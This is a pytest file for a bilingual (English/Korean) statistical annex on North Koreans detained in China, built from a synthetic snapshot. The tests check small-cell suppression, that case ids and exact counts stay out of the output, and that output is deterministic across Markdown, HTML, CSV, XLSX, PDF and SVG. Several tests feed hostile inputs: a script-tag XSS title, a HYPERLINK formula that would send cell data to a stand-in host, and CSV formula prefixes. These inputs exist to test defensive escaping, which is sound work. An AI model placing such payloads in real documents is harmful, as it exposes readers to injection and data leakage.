"""The UPR annex and its charts from a synthetic snapshot: every format in English and Korean; the
published figures read back from the XLSX (openpyxl), the CSV (csv), the PDF (pdftotext, Debian's
poppler-utils) and the SVG charts (xml.etree); suppressed cells never shown as numbers; nothing
the snapshot keeps for analysts (exact counts, case ids) in the annex; the same bytes each time."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import functools
import html
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser

import markdown
import openpyxl
import pytest
from reportlab.pdfbase import pdfmetrics

from services.reporting import charts, wording
from services.reporting.annex import (CSV_COLUMNS, CSV_EVIDENCE_COLUMNS, CSV_WITHHELD, EVIDENCE_WORDS, FORMATS,
                                      MIME_TYPES, AnnexError, build, render_annex)
from services.reporting.domain import MEASURES
from shared.events import SEXES
from shared.people import AGE_GROUPS
from shared import fonts, i18n
from shared.words import label as page_label
from tests.support import SYNTH

PDFTOTEXT, PDFINFO = shutil.which("pdftotext"), shutil.which("pdfinfo")
needs_poppler = pytest.mark.skipif(PDFTOTEXT is None or PDFINFO is None,
                                   reason="pdftotext/pdfinfo are missing: install Debian's poppler-utils "
                                          "(bash infra/browser.sh does) to read the PDF annex back")
LANGS = ("en", "ko")
SVG_NS = "{http://www.w3.org/2000/svg}"
CASE_IDS = [f"case-{SYNTH}-{n:04d}" for n in range(3)]
AS_OF, SINCE = "2024-01-01", "2019-01-01"
TITLE = "Statistical annex: North Koreans detained in China (NKHR, UPR of China, 4th cycle)"


def _exact(measure_number: int) -> dict[tuple[str, str], int]:
    """True counts of a measure (what only analysts see): some from 1 to 4, some zeros, the rest 5+."""
    counts = {}
    for i, sex in enumerate(SEXES):
        for j, age in enumerate(AGE_GROUPS):
            counts[(sex, age)] = (7 * i + 11 * j + 5 * measure_number) % 19
    return counts


def _public(measure: str, exact: dict) -> dict:
    """The table as the reporting service publishes it: 1 to 4 hidden (primary), and in each row
    with a hidden cell the smallest other positive one too (secondary); the reason stays in."""
    total = sum(exact.values())
    primary = {key for key, n in exact.items() if 0 < n < 5}
    if 0 < total < 5:
        secondary: set = set()
        primary = {key for key, n in exact.items() if n}
    else:
        secondary = set()
        for sex in SEXES:
            row = [(exact[(sex, age)], (sex, age)) for age in AGE_GROUPS]
            if any(key in primary for _, key in row):
                others = sorted((n, key) for n, key in row if n >= 5)
                if others:
                    secondary.add(others[0][1])
    cells = []
    for (sex, age), n in exact.items():
        if (sex, age) in primary | secondary:
            cells.append({"sex": sex, "age_group": age, "count": None, "suppressed": True,
                          "reason": "primary" if (sex, age) in primary else "secondary"})
        else:
            cells.append({"sex": sex, "age_group": age, "count": n})
    return {"measure": measure, "as_of": AS_OF, "since": None if measure in wording.STOCK_MEASURES else SINCE,
            "by": ["sex", "age_group"], "disclosure": "public", "total": None if 0 < total < 5 else total,
            "cells": cells, "suppressed": {"primary": len(primary), "secondary": len(secondary)},
            "note": f"{len(primary)} cells from 1 to 4 are not shown, and {len(secondary)} more so that they "
                    "cannot be worked out from the totals."}


def _snapshot() -> dict:
    exact = {measure: _exact(n) for n, measure in enumerate(MEASURES)}
    # UNHCR granted access for 3 people only: the total is hidden too.
    exact["unhcr_access_granted"] = {key: 0 for key in exact["detained"]}
    exact["unhcr_access_granted"].update({("female", "18-59"): 2, ("male", "18-59"): 1})
    figures = {measure: _public(measure, counts) for measure, counts in exact.items()}
    months = [f"{2022 + (m + 1) // 12}-{(m + 1) % 12 + 1:02d}" for m in range(24)]
    series = {"months": months,
              "detained": [None if m in (2, 9, 15) else 40 + m for m in range(24)],
              "repatriated": [None if m % 5 == 1 else (m * 3) % 11 for m in range(24)],
              "reported": [None if m == 20 else 8 + m % 4 for m in range(24)]}
    questions = [
        {"id": "detained_now", "question": "How many North Korean nationals (disaggregated by age and gender) are "
                                           "currently detained in China?",
         "answer_text": f"As of 1 January 2024, the cases documented by Non-Refoulement Watch include "
                        f"{figures['detained']['total']} North Korean nationals detained in China.",
         "figures": {"detained": figures["detained"]}},
        {"id": "unhcr_access", "question": "How many persons did UNHCR get access to, and how many requests for "
                                           "access were made?",
         "answer_text": f"UNHCR access was requested for {figures['unhcr_access_requested']['total']} documented "
                        "persons; access was granted for fewer than 5 of them.",
         "figures": {"unhcr_access_requested": figures["unhcr_access_requested"],
                     "unhcr_access_granted": figures["unhcr_access_granted"]}},
        {"id": "some_later_question", "question": "A question the annex has no Korean for?",
         "answer_text": "Its English answer.", "figures": {}},
    ]
    return {"_id": "7d1f0c2e-0000-4000-8000-00000000a11e", "snapshot_id": "7d1f0c2e-0000-4000-8000-00000000a11e",
            "cycle": "CN-4", "as_of": AS_OF, "since": SINCE, "title": TITLE,
            "taken_at": dt.datetime(2024, 1, 5, 9, 30), "taken_by": f"user-{SYNTH}",
            "figures": figures, "series": series, "questions": questions,
            # Kept for analysts in the stored snapshot; never in the annex.
            "exact": {m: {"cells": [{"sex": s, "age_group": a, "count": n} for (s, a), n in c.items()]}
                      for m, c in exact.items()},
            "counted": {m: CASE_IDS for m in MEASURES}, "case_ids": CASE_IDS, "case_count": len(CASE_IDS)}


SNAPSHOT = _snapshot()


@functools.lru_cache(maxsize=None)
def _rendered(fmt: str, lang: str) -> bytes:
    body, mime = render_annex(SNAPSHOT, fmt=fmt, lang=lang)
    assert mime == MIME_TYPES[fmt]
    return body


def _expected_rows(measure: str, lang: str) -> list[tuple[str, list]]:
    """(row label, [count or "–"]) of a measure's published table."""
    cells = {(c["sex"], c["age_group"]): c for c in SNAPSHOT["figures"][measure]["cells"]}
    return [(wording.sex_label(sex, lang),
             ["–" if cells[(sex, age)].get("suppressed") else cells[(sex, age)]["count"] for age in AGE_GROUPS])
            for sex in SEXES]


def _total_text(measure: str) -> str:
    total = SNAPSHOT["figures"][measure]["total"]
    return "<5" if total is None else str(total)


def _pdf_text(pdf: bytes, *args: str) -> str:
    return subprocess.run([PDFTOTEXT, "-enc", "UTF-8", *args, "-", "-"], input=pdf, capture_output=True,
                          check=True, timeout=60).stdout.decode("utf-8")


# --- every format, both languages -----------------------------------------------------------------


def test_the_synthetic_snapshot_has_what_the_annex_must_handle():
    figures = SNAPSHOT["figures"]
    assert all(any(c.get("reason") == "primary" for c in t["cells"]) for t in figures.values())
    assert any(c.get("reason") == "secondary" for t in figures.values() for c in t["cells"])
    assert figures["unhcr_access_granted"]["total"] is None
    assert all(None in SNAPSHOT["series"][name] for name in wording.SERIES)


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_renders_in_both_languages(fmt, lang):
    body = _rendered(fmt, lang)
    assert body
    if fmt in ("md", "html", "csv"):
        text = body.decode("utf-8")
        assert ("구금 (기준일 현재)" in text) == (lang == "ko")
        assert ("Detained (on the date)" in text) == (lang == "en")
    if fmt in ("md", "html"):
        assert TITLE in text and "CN-4" in text
    if fmt == "xlsx":
        assert body[:2] == b"PK"
    if fmt == "pdf":
        assert body.startswith(b"%PDF-")


@pytest.mark.parametrize("fmt, lang", [(f, lang) for f in ("md", "html", "csv", "pdf") for lang in LANGS])
def test_nothing_kept_for_analysts_reaches_the_annex(fmt, lang):
    body = _rendered(fmt, lang)
    text = _pdf_text(body) if fmt == "pdf" and PDFTOTEXT else body.decode("utf-8", errors="replace")
    for secret in (*CASE_IDS, SYNTH, "primary", "secondary"):
        assert secret not in text, secret


def test_the_xlsx_holds_no_case_id_or_reason():
    for lang in LANGS:
        wb = openpyxl.load_workbook(io.BytesIO(_rendered("xlsx", lang)))
        values = [str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if v]
        assert not [v for v in values if SYNTH in v or "primary" in v or "secondary" in v]


# --- Markdown and HTML ----------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_the_markdown_has_the_dates_method_questions_tables_and_charts(lang):
    text = _rendered("md", lang).decode("utf-8")
    w = wording.words(lang)
    assert text.startswith(f"# {TITLE}\n")
    assert f"**{w['meta']['as_of']}:** {i18n.long_date(AS_OF, lang)}" in text
    assert f"**{w['meta']['period']}:** {wording.period_text(AS_OF, SINCE, lang)}" in text
    for heading in ("method", "questions", "tables", "charts"):
        assert f"\n## {w['heading'][heading]}\n" in text
    assert w["method"][3] in text  # consent, duplicates
    for measure in MEASURES:
        assert f"\n### {wording.measure_title(measure, lang)}\n" in text
        for label, counts in _expected_rows(measure, lang):
            assert "| " + " | ".join([label, *map(str, counts)]) + " |" in text
        assert f"**{w['total_line'].format(total=_total_text(measure))}**" in text
    images = re.findall(r"!\[[^\]]*\]\(data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)\)", text)
    assert len(images) == 2
    for image in images:
        assert ET.fromstring(base64.b64decode(image)).tag == f"{SVG_NS}svg"


def test_the_korean_annex_answers_in_korean_from_the_published_totals():
    text = _rendered("md", "ko").decode("utf-8")
    detained = SNAPSHOT["figures"]["detained"]["total"]
    assert "### 중국에 현재 구금되어 있는 북한 국적자는 몇 명입니까? (연령·성별 구분)" in text
    assert f"2024년 1월 1일 현재 기록된 사건 중 중국에 구금된 북한 국적자는 {detained}명입니다." in text
    assert "그중 5명 미만에 대해 접견이 허가되었습니다." in text  # a suppressed total, in words
    assert "### A question the annex has no Korean for?\n\nIts English answer." in text


def test_the_korean_words_are_the_pages_words():
    assert wording.sex_label("female", "ko") == page_label("female", "sex", "ko") == "여성"
    assert (wording.measure_title("deportation_imminent", "ko", qualified=False)
            == page_label("deportation_imminent", "case_status", "ko") == "송환 임박")


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.ids, self.tags, self.cells, self._cell = [], Counter(), [], None

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.ids += [value for name, value in attrs if name == "id"]
        if tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.cells.append(self._cell.strip())
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


@pytest.mark.parametrize("lang", LANGS)
def test_the_html_page_has_the_tables_and_inline_svg_charts_with_unique_ids(lang):
    page = _Page()
    page.feed(_rendered("html", lang).decode("utf-8"))
    assert page.tags["svg"] == 2 and page.tags["img"] == 0
    assert len(page.ids) == len(set(page.ids)), [i for i, n in Counter(page.ids).items() if n > 1]
    expected = []
    for measure in MEASURES:
        expected += [wording.words(lang)["heading"]["sex_by_age"], *(wording.age_label(a, lang) for a in AGE_GROUPS)]
        for label, counts in _expected_rows(measure, lang):
            expected += [label, *map(str, counts)]
        expected += [wording.words(lang)["heading"]["total"], _total_text(measure)]
    assert page.cells == expected


def test_a_title_with_markup_stays_text_in_markdown_and_html():
    snapshot = {**SNAPSHOT, "title": "<script>alert(1)</script> | *UPR* & [link](x)"}
    md_text = render_annex(snapshot, fmt="md", lang="en")[0].decode("utf-8")
    as_html = markdown.markdown(md_text.split("\n", 1)[0])
    assert "<script>" not in as_html and "<em>" not in as_html and "<a " not in as_html
    assert "&lt;script&gt;" in as_html or "&lt;script>" in as_html
    page = render_annex(snapshot, fmt="html", lang="en")[0].decode("utf-8")
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


# --- CSV and XLSX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_the_csv_is_long_format_and_equals_the_published_figures(lang):
    rows = list(csv.DictReader(io.StringIO(_rendered("csv", lang).decode("utf-8"))))
    assert tuple(rows[0]) == CSV_COLUMNS + CSV_EVIDENCE_COLUMNS
    rows = [row for row in rows if not row["measure"].startswith("evidence_")]  # the register's rows: below
    seen = {}
    for row in rows:
        seen[(row["measure"], row["sex"], row["age_group"])] = row
        assert row["suppressed"] in ("true", "false")
        assert (row["count"] == "") == (row["suppressed"] == "true")
        assert row["as_of"] == AS_OF
        assert row["measure_title"] == wording.measure_title(row["measure"], lang)
    assert len(rows) == len(MEASURES) * (len(SEXES) * len(AGE_GROUPS) + 1)
    for measure, table in SNAPSHOT["figures"].items():
        for cell in table["cells"]:
            row = seen[(measure, cell["sex"], cell["age_group"])]
            if cell.get("suppressed"):
                assert row["count"] == "" and row["suppressed"] == "true"
            else:
                assert int(row["count"]) == cell["count"] and row["suppressed"] == "false"
        total = seen[(measure, "total", "total")]
        assert total["count"] == ("" if table["total"] is None else str(table["total"]))


@pytest.mark.parametrize("lang", LANGS)
def test_the_xlsx_has_a_sheet_per_measure_equal_to_the_published_figures(lang):
    wb = openpyxl.load_workbook(io.BytesIO(_rendered("xlsx", lang)))
    sheets = wording.words(lang)["sheet"]
    assert wb.sheetnames == [sheets["about"], *(sheets[m] for m in MEASURES), sheets["questions"],
                             EVIDENCE_WORDS[lang]["sheet"], sheets["charts"]]
    assert wb.properties.title == TITLE and wb.properties.creator == "Non-Refoulement Watch"
    headings = [wording.words(lang)["heading"]["sex_by_age"], *(wording.age_label(a, lang) for a in AGE_GROUPS)]
    for measure in MEASURES:
        ws = wb[sheets[measure]]
        rows = [list(r) for r in ws.iter_rows(values_only=True)]
        assert rows[0][0] == wording.measure_title(measure, lang)
        header = next(i for i, r in enumerate(rows) if r[:len(headings)] == headings)
        for offset, (label, counts) in enumerate(_expected_rows(measure, lang), 1):
            row = rows[header + offset]
            assert row[0] == label
            assert row[1:1 + len(AGE_GROUPS)] == counts
            for value, expected in zip(row[1:], counts):
                assert isinstance(value, int) == (expected != "–")
        total = rows[header + len(SEXES) + 1]
        assert total[0] == wording.words(lang)["heading"]["total"]
        assert total[1] == (SNAPSHOT["figures"][measure]["total"] or "<5")
    questions = [list(r) for r in wb[sheets["questions"]].iter_rows(values_only=True)]
    assert len(questions) == 1 + len(SNAPSHOT["questions"])
    assert questions[1][0] == wording.question_text(SNAPSHOT["questions"][0], as_of=AS_OF, since=SINCE, lang=lang)[0]
    images = wb[sheets["charts"]]._images
    assert len(images) == 2 and all(image._data()[:8] == b"\x89PNG\r\n\x1a\n" for image in images)


# --- PDF ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
@needs_poppler
def test_the_pdf_reads_back_with_the_figures_and_its_words(lang):
    pdf = _rendered("pdf", lang)
    info = subprocess.run([PDFINFO, "-enc", "UTF-8", "-"], input=pdf, capture_output=True, check=True,
                          timeout=60).stdout.decode("utf-8")
    assert re.search(rf"^Title:\s+{re.escape(TITLE)}$", info, re.M)
    assert int(re.search(r"^Pages:\s+(\d+)$", info, re.M).group(1)) >= 2
    text = _pdf_text(pdf)
    w = wording.words(lang)
    for words in (TITLE, "CN-4", i18n.long_date(AS_OF, lang), w["heading"]["method"], w["heading"]["questions"],
                  *(wording.measure_title(m, lang) for m in MEASURES)):
        assert words in text, words
    if lang == "ko":
        for words in ("방법", "질문과 답변", "성별 미상", "연령 미상", "합계", "2024년 1월 1일 현재"):
            assert words in text, words
    lines = _pdf_text(pdf, "-layout").splitlines()
    for label, _ in _expected_rows("detained", lang):
        found = [line.strip()[len(label):].split() for line in lines if line.strip().startswith(label + " ")]
        assert found == [[str(c) for c in counts] for measure in MEASURES
                         for row_label, counts in _expected_rows(measure, lang) if row_label == label]
    total = w["heading"]["total"]
    totals = [m.group(1) for line in lines if (m := re.match(rf"^\s*{total}\s+(\S+)\s*$", line))]
    assert totals == [_total_text(m) for m in MEASURES]


def test_every_character_of_the_annex_has_a_glyph_in_the_pdf_font():
    font = pdfmetrics.getFont(fonts.register_reportlab()[0]).face
    missing = set()
    for lang in LANGS:
        annex = build(SNAPSHOT, lang)
        texts = [annex.title, annex.footnote, *annex.method, *annex.columns, *(v for pair in annex.meta for v in pair),
                 *(v for pair in annex.questions for v in pair), *(c.caption for c in annex.charts)]
        texts += [t.title + t.when + t.note + t.total_text + "".join(label for _, label, _ in t.rows)
                  for t in annex.tables]
        missing |= {char for text in texts for char in text if ord(char) not in font.charToGlyph}
    assert not missing, f"NanumGothic has no glyph for {sorted(missing)}"


# --- charts ---------------------------------------------------------------------------------------


def _svg_texts(svg: bytes) -> list[tuple[str, str]]:
    """(the id of the innermost group with one, text) of every <text> outside the axes' tick labels."""
    out = []

    def walk(element, group, in_ticks):
        gid = element.get("id") or ""
        in_ticks = in_ticks or gid.startswith(("xtick_", "ytick_"))
        group = gid or group
        if element.tag == f"{SVG_NS}text" and not in_ticks:
            out.append((group, "".join(element.itertext()).strip()))
        for child in element:
            walk(child, group, in_ticks)

    walk(ET.fromstring(svg), "", False)
    return out


def _marks(svg: bytes, gid_prefix: str) -> dict[str, int]:
    root = ET.fromstring(svg)
    return {g.get("id"): len(g.findall(f".//{SVG_NS}use")) for g in root.iter(f"{SVG_NS}g")
            if (g.get("id") or "").startswith(gid_prefix)}


@pytest.mark.parametrize("lang", LANGS)
def test_the_chart_over_time_shows_suppressed_months_as_marks_never_as_numbers(lang):
    svg = charts.chart_over_time(SNAPSHOT["series"], fmt="svg", lang=lang)
    texts = [text for _, text in _svg_texts(svg)]
    assert not [t for t in texts if re.fullmatch(r"[\d.,]+", t)], texts
    assert not [t for t in texts if t in ("None", "nan", "NaN")]
    assert wording.words(lang)["chart"]["suppressed"] in texts
    assert all(wording.words(lang)["chart"]["series"][name] in texts for name in wording.SERIES)
    assert _marks(svg, "suppressed-") == {f"suppressed-{name}": SNAPSHOT["series"][name].count(None)
                                          for name in wording.SERIES}
    png = charts.chart_over_time(SNAPSHOT["series"], fmt="png", lang=lang)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"


@pytest.mark.parametrize("lang", LANGS)
def test_the_chart_by_age_and_sex_labels_only_published_counts(lang):
    table = SNAPSHOT["figures"]["detained"]
    svg = charts.chart_by_age_and_sex(table, fmt="svg", lang=lang)
    texts = _svg_texts(svg)
    numbers = sorted(int(t) for _, t in texts if re.fullmatch(r"\d+", t))
    assert numbers == sorted(c["count"] for c in table["cells"] if not c.get("suppressed"))
    labelled = {gid for gid, t in texts if gid.startswith("value-")}
    assert labelled == {f"value-{c['sex']}-{c['age_group']}" for c in table["cells"] if not c.get("suppressed")}
    assert set(_marks(svg, "suppressed-")) == {f"suppressed-{c['sex']}-{c['age_group']}"
                                               for c in table["cells"] if c.get("suppressed")}
    assert wording.age_label("unknown", lang) in [t for _, t in _svg_texts_with_ticks(svg)]
    assert charts.chart_by_age_and_sex(table, fmt="png", lang=lang)[:8] == b"\x89PNG\r\n\x1a\n"


def _svg_texts_with_ticks(svg: bytes) -> list[tuple[str, str]]:
    return [("", "".join(t.itertext()).strip()) for t in ET.fromstring(svg).iter(f"{SVG_NS}text")]


def test_a_chart_of_a_table_whose_total_is_hidden_has_no_number_but_its_axis():
    table = SNAPSHOT["figures"]["unhcr_access_granted"]
    svg = charts.chart_by_age_and_sex(table, fmt="svg", lang="en")
    assert not [t for _, t in _svg_texts(svg) if re.fullmatch(r"[1-4]", t)]


@pytest.mark.parametrize("bad, message", [
    ({"months": []}, "no months"), ({"months": ["2024-01"], "detained": [1, 2]}, "values for 1 months"),
])
def test_a_series_that_cannot_be_drawn_is_refused(bad, message):
    with pytest.raises(charts.ChartError, match=message):
        charts.chart_over_time(bad)


# --- the same bytes, and refusals -----------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["md", "csv", "pdf"])
def test_the_same_snapshot_gives_the_same_bytes(fmt):
    assert render_annex(SNAPSHOT, fmt=fmt, lang="ko")[0] == _rendered(fmt, "ko")


def test_the_same_figures_give_the_same_svg_charts():
    # The Korean ones are inside the Markdown annex, compared above.
    first = (charts.chart_over_time(SNAPSHOT["series"]), charts.chart_by_age_and_sex(SNAPSHOT["figures"]["detained"]))
    again = (charts.chart_over_time(SNAPSHOT["series"]), charts.chart_by_age_and_sex(SNAPSHOT["figures"]["detained"]))
    assert first == again
    assert all(b"<dc:date>" not in svg for svg in first)


@pytest.mark.parametrize("kwargs, message", [
    ({"fmt": "odt"}, "format must be one of"), ({"fmt": "md", "lang": "fr"}, "lang must be one of"),
])
def test_an_unknown_format_or_language_is_refused(kwargs, message):
    with pytest.raises(AnnexError, match=message):
        render_annex(SNAPSHOT, **kwargs)


def test_a_table_with_a_missing_cell_is_refused_rather_than_guessed():
    figures = dict(SNAPSHOT["figures"])
    figures["detained"] = {**figures["detained"], "cells": figures["detained"]["cells"][1:]}
    with pytest.raises(AnnexError, match="detained has no cell for female, 0-4"):
        render_annex({**SNAPSHOT, "figures": figures}, fmt="csv")


def test_a_suppressed_cell_is_a_mark_even_if_it_still_carries_a_count():
    figures = dict(SNAPSHOT["figures"])
    cells = [dict(c) for c in figures["detained"]["cells"]]
    cells[0] = {**cells[0], "count": 3, "suppressed": True}
    figures["detained"] = {**figures["detained"], "cells": cells}
    table = build({**SNAPSHOT, "figures": figures}, "en").tables[0]
    assert table.measure == "detained" and table.rows[0][2][0] is None


@pytest.mark.parametrize("lang, period", [("en", "up to 1 January 2024"), ("ko", "2024년 1월 1일까지")])
def test_without_a_start_date_the_period_runs_up_to_the_as_of_date(lang, period):
    annex = build({**SNAPSHOT, "since": None}, lang)
    assert (wording.words(lang)["meta"]["period"], period) in annex.meta
    assert any(period in line for line in annex.method)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_title_that_looks_like_a_formula_is_text_in_the_xlsx(start):
    from openpyxl import load_workbook

    title = f'{start}HYPERLINK("http://example.invalid/?"&A1,"open")'
    snapshot = {**SNAPSHOT, "title": title}
    book = load_workbook(io.BytesIO(render_annex(snapshot, fmt="xlsx", lang="en")[0]))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == title]
    assert cells, "the title is in the workbook"
    assert all(c.data_type == "s" for c in cells)  # a string, not a formula
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas


def test_csv_cells_that_could_start_a_formula_are_quoted_as_text():
    from shared.exports import csv_row

    assert csv_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", 5, -3]) == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", 5, -3]


# --- the evidence register frozen with the snapshot (issue 11 point 4) ----------------------------

REGISTER = {
    "as_of": AS_OF, "disclosure": "public", "withheld": {"products": 3, "facilities": 0, "companies": 1},
    "products": [{"name": "Human-hair wigs", "testimonies": 7, "first_on": "2022-03", "last_on": "2023-11",
                  "reliability": {"confirmed": 5, "probable": None, "unverified": 0}},
                 {"name": "=Frozen squid", "testimonies": 5, "first_on": "2023-02", "last_on": "2023-06",
                  "reliability": {"confirmed": 5, "probable": 0, "unverified": 0}}],
    "facilities": [],
    "companies": [{"name": "Dandong <Seafood> | Co.", "testimonies": 6, "first_on": "2022-08", "last_on": "2023-12",
                   "reliability": {"confirmed": None, "probable": 6, "unverified": 0}}],
    "note": "Names given by fewer than 5 documented persons are not listed; dates are given to the month.",
}
WITH_REGISTER = {**SNAPSHOT, "evidence": REGISTER}


def _register_text(fmt: str, lang: str, snapshot: dict) -> str:
    body, _ = render_annex(snapshot, fmt=fmt, lang=lang)
    if fmt == "pdf":
        return _pdf_text(body, "-layout")
    if fmt == "xlsx":
        ws = openpyxl.load_workbook(io.BytesIO(body))[EVIDENCE_WORDS[lang]["sheet"]]
        return "\n".join(" ".join(str(v) for v in row if v is not None) for row in ws.iter_rows(values_only=True))
    return body.decode("utf-8")


def _register_rows(fmt: str, lang: str) -> dict[str, tuple]:
    """name -> (testimonies, first month, last month) as each format gives them back."""
    body, _ = render_annex(WITH_REGISTER, fmt=fmt, lang=lang)
    if fmt == "csv":
        return {re.sub(r"^'(?=[=+@-])", "", r["evidence_name"]): (int(r["count"]), r["first_on"], r["last_on"])
                for r in csv.DictReader(io.StringIO(body.decode("utf-8")))
                if r["measure"].startswith("evidence_") and r["evidence_name"]}
    if fmt == "xlsx":
        ws = openpyxl.load_workbook(io.BytesIO(body))[EVIDENCE_WORDS[lang]["sheet"]]
        return {row[0]: tuple(row[1:4]) for row in ws.iter_rows(values_only=True)
                if len(row) >= 4 and isinstance(row[1], int)}
    if fmt == "html":
        return {html.unescape(name): (int(n), first, last) for name, n, first, last in re.findall(
            r'<tr><th scope="row">([^<]*)</th><td class="count">(\d+)</td><td>([^<]*)</td><td>([^<]*)</td></tr>',
            body.decode("utf-8"))}
    if fmt == "md":
        rendered = markdown.markdown(body.decode("utf-8"), extensions=["tables"])
        return {html.unescape(name): (int(n), first, last) for name, n, first, last in re.findall(
            r"<tr>\s*<td>([^<]*)</td>\s*<td[^>]*>(\d+)</td>\s*<td>(\d{4}-\d{2})</td>\s*<td>(\d{4}-\d{2})</td>\s*</tr>",
            rendered)}
    text = _pdf_text(body, "-layout")  # pdf: a row is the name, the count and the two months on one line
    return {m.group(1): (int(m.group(2)), m.group(3), m.group(4)) for line in text.splitlines()
            if (m := re.match(r"^\s*(.+?)\s{2,}(\d+)\s+(\d{4}-\d{2})\s+(\d{4}-\d{2})\s*$", line))}


REGISTER_FORMATS = [pytest.param(f, marks=needs_poppler) if f == "pdf" else f for f in ("md", "html", "csv", "xlsx", "pdf")]


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", REGISTER_FORMATS)
def test_every_format_prints_the_frozen_register_with_its_counts_months_and_withheld_names(fmt, lang):
    rows = _register_rows(fmt, lang)
    expected = {i["name"]: (i["testimonies"], i["first_on"], i["last_on"])
                for kind in ("products", "facilities", "companies") for i in REGISTER[kind]}
    assert rows == expected
    e = EVIDENCE_WORDS[lang]
    text = _register_text(fmt, lang, WITH_REGISTER)
    if fmt == "md":
        text = html.unescape(text.replace("\\", ""))
    squeezed = " ".join(text.split())
    sentences = () if fmt == "csv" else (  # the CSV gives the withheld names as rows: checked below
        e["empty"], e["withheld"].format(count=3, threshold=5), e["withheld"].format(count=1, threshold=5))
    for words in (e["heading"], *e["kind"].values(), *sentences):
        assert " ".join(words.split()) in squeezed, words
    assert e["none"] not in squeezed
    assert ("제품" in text) == (lang == "ko")
    for secret in (*CASE_IDS, SYNTH, "confirmed", "probable", "reliability"):
        assert secret not in text, secret


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", REGISTER_FORMATS)
def test_a_snapshot_without_a_register_says_so_in_every_format(fmt, lang):
    text = " ".join(_register_text(fmt, lang, SNAPSHOT).split())
    if fmt == "md":
        text = text.replace("\\", "")
    assert " ".join(EVIDENCE_WORDS[lang]["none"].split()) in text
    # Said, not shown as an empty register:
    assert " ".join(EVIDENCE_WORDS[lang]["intro"].split()) not in text
    if fmt == "csv":
        rows = csv.DictReader(io.StringIO(render_annex(SNAPSHOT, fmt="csv", lang=lang)[0].decode("utf-8")))
        assert [r["measure"] for r in rows if r["measure"].startswith("evidence_")] == ["evidence_register"]


def test_register_names_stay_text_in_the_csv_and_xlsx():
    rows = list(csv.DictReader(io.StringIO(render_annex(WITH_REGISTER, fmt="csv")[0].decode("utf-8"))))
    assert "'=Frozen squid" in [r["evidence_name"] for r in rows]
    withheld = {r["measure"]: int(r["count"]) for r in rows if r["sex"] == CSV_WITHHELD}
    assert withheld == {"evidence_products": 3, "evidence_facilities": 0, "evidence_companies": 1}
    ws = openpyxl.load_workbook(io.BytesIO(render_annex(WITH_REGISTER, fmt="xlsx")[0]))[EVIDENCE_WORDS["en"]["sheet"]]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == "=Frozen squid")
    assert cell.data_type == "s"
